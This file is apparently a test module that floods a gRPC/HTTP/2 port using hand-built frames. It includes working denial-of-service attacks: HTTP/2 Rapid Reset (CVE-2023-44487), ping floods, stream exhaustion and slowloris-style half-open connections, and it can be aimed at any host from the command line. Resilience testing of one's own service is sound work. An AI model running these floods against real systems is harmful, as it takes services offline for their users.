"""Strangers that flood a port: raw sockets, with frames of HTTP/2 that are made by hand.

    python -m tests.floods KIND HOST:PORT SECONDS [--source 127.0.0.2]

It floods until the time is over, opening a connection again when it is closed, and prints what it sent as JSON.
"""

import argparse
import json
import selectors
import socket
import struct
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import ExitStack
from dataclasses import asdict, dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
JOIN = "/fedring.v1.TrainCmdService/Join"

_HEADERS, _RST_STREAM, _SETTINGS, _PING = 1, 3, 4, 6
_END_HEADERS = 4
_CANCEL = 8
_LAST_STREAM = 2**31 - 1
_FLUSH = 1 << 16  # bytes that are kept ready for each connection
_READ = 1 << 20


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


SETTINGS = frame(_SETTINGS, 0, 0)
PING = frame(_PING, 0, 0, b"12345678")


def headers(stream: int, path: str) -> bytes:
    """Return the frame that begins a call of the method at `path`, whose message is still to come."""
    pairs = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    # Each header is a literal that is not indexed, and its lengths fit into one byte.
    block = b"".join(b"\0" + _text(name) + _text(value) for name, value in pairs.items())
    return frame(_HEADERS, _END_HEADERS, stream, block)


def reset(stream: int) -> bytes:
    """Return the frame that cancels a call."""
    return frame(_RST_STREAM, 0, stream, struct.pack(">I", _CANCEL))


def pings() -> Iterator[bytes]:
    """Yield the bytes of a connection that pings without end."""
    yield PREFACE + SETTINGS
    while True:
        yield 100 * PING


def resets() -> Iterator[bytes]:
    """Yield the bytes of a connection that begins calls and cancels them at once (CVE-2023-44487)."""
    yield PREFACE + SETTINGS
    for stream in range(1, _LAST_STREAM, 2):
        yield headers(stream, JOIN) + reset(stream)


def streams(most: int = 20_000) -> Iterator[bytes]:
    """Yield the bytes of a connection that begins calls, and sends no message in them."""
    yield PREFACE + SETTINGS
    for stream in range(1, 2 * most, 2):
        yield headers(stream, JOIN)


def half_preface() -> Iterator[bytes]:
    """Yield the beginning of a connection that never goes on."""
    yield PREFACE[:9]


def silence() -> Iterator[bytes]:
    """Yield nothing: a connection that only takes up a place."""
    yield from ()


def half_request() -> Iterator[bytes]:
    """Yield the beginning of a request over HTTP/1.1 that never goes on."""
    yield b"GET /metrics HTTP/1.1\r\nHo"


KINDS: Mapping[str, tuple[Callable[[], Iterator[bytes]], int]] = {
    "connections": (silence, 512),
    "half_prefaces": (half_preface, 512),
    "pings": (pings, 1),
    "resets": (resets, 1),
    "streams": (streams, 1),
    "slow_readers_of_metrics": (half_request, 512),
}
"""Of each flood, the bytes of a connection, and the number of connections."""


@dataclass
class Sent:
    """How much a flood could do."""

    bytes_sent: int = 0
    opened: int = 0
    refused: int = 0  # connections that could not be opened
    closed: int = 0  # by the other side
    seconds_at_most: float = 0.0  # the longest life of a connection


class Line:
    """One connection of a flood."""

    def __init__(self, address: tuple[str, int], source: str, script: Iterator[bytes]) -> None:
        self.began = time.monotonic()
        self._script, self._ready, self._ended = script, bytearray(), False
        self.socket = socket.create_connection(address, timeout=2.0, source_address=(source, 0))
        self.socket.setblocking(False)

    def send(self) -> int:
        """Send as much as the other side takes, and return the number of bytes."""
        while not self._ended and len(self._ready) < _FLUSH:
            try:
                self._ready += next(self._script)
            except StopIteration:
                self._ended = True
        if not self._ready:
            return 0
        sent = self.socket.send(self._ready)
        del self._ready[:sent]
        return sent

    @property
    def events(self) -> int:
        """What to wait for: the end of the other side, and room for more."""
        return selectors.EVENT_READ | (0 if self._ended and not self._ready else selectors.EVENT_WRITE)


def flood(
    address: tuple[str, int],
    script: Callable[[], Iterator[bytes]],
    connections: int,
    *,
    seconds: float,
    source: str = "127.0.0.1",
) -> Sent:
    """Flood a port over several connections at once.

    Args:
        address: Of the port.
        script: Makes the bytes that one connection sends.
        connections: How many are open at the same time. One that is closed is opened again.
        seconds: How long to go on.
        source: The address to call from.

    Returns:
        What was sent.
    """
    sent, end, wakes = Sent(), time.monotonic() + seconds, 0.0
    with ExitStack() as stack:
        selector = stack.enter_context(selectors.DefaultSelector())
        while time.monotonic() < end:
            while len(selector.get_map()) < connections and time.monotonic() >= wakes:
                try:
                    line = Line(address, source, script())
                except OSError:
                    sent.refused += 1
                    wakes = time.monotonic() + 0.1
                    break
                sent.opened += 1
                selector.register(line.socket, line.events, line)
            for key, ready in selector.select(min(0.05, max(0.0, end - time.monotonic()))):
                _serve(selector, key.data, ready, sent)
        for key in [*selector.get_map().values()]:
            _close(selector, key.data, sent)
    return sent


def _serve(selector: selectors.BaseSelector, line: Line, ready: int, sent: Sent) -> None:
    """Read and send what can be; forget a connection that the other side has closed."""
    try:
        if ready & selectors.EVENT_READ and not line.socket.recv(_READ):
            raise ConnectionError
        if ready & selectors.EVENT_WRITE:
            sent.bytes_sent += line.send()
            selector.modify(line.socket, line.events, line)
    except BlockingIOError:
        pass
    except OSError:
        sent.closed += 1
        _close(selector, line, sent)


def _close(selector: selectors.BaseSelector, line: Line, sent: Sent) -> None:
    sent.seconds_at_most = max(sent.seconds_at_most, time.monotonic() - line.began)
    selector.unregister(line.socket)
    line.socket.close()


def _text(value: str) -> bytes:
    return bytes([len(value)]) + value.encode()


def main(arguments: Sequence[str] | None = None) -> None:
    """Flood as the command line says."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("kind", choices=[*KINDS])
    parser.add_argument("address")
    parser.add_argument("seconds", type=float)
    parser.add_argument("--source", default="127.0.0.1")
    parser.add_argument("--connections", type=int, default=0)
    args = parser.parse_args(arguments)
    script, connections = KINDS[args.kind]
    host, _, port = args.address.rpartition(":")
    done = flood((host, int(port)), script, args.connections or connections, seconds=args.seconds, source=args.source)
    print(json.dumps(asdict(done)))


if __name__ == "__main__":
    main()
